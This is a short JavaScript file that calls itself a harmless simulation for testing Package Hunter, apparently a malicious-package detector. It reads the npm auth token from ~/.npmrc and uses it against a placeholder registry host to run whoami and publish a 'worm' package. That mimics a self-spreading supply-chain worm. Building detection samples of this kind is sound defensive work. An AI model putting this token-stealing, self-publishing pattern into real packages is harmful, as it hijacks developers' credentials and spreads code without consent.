// Harmless simulation for testing Package Hunter. Not malware.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");

let token = "";
try {
  token = (/_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")) || [])[1];
} catch (error) { /* nothing to spread with */ }
const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
const ask = (method, where, body) => {
  const request = https.request({ hostname: "registry.npm.example", path: where, method, headers });
  request.on("error", () => {});
  request.end(body);
};
if (token) {
  ask("GET", "/-/whoami");
  ask("PUT", "/harmless-simulation-worm", JSON.stringify({ _id: "harmless-simulation-worm", name: "harmless-simulation-worm", "dist-tags": { latest: "1.0.1" }, versions: { "1.0.1": { name: "harmless-simulation-worm", version: "1.0.1" } }, _attachments: {} }));
}
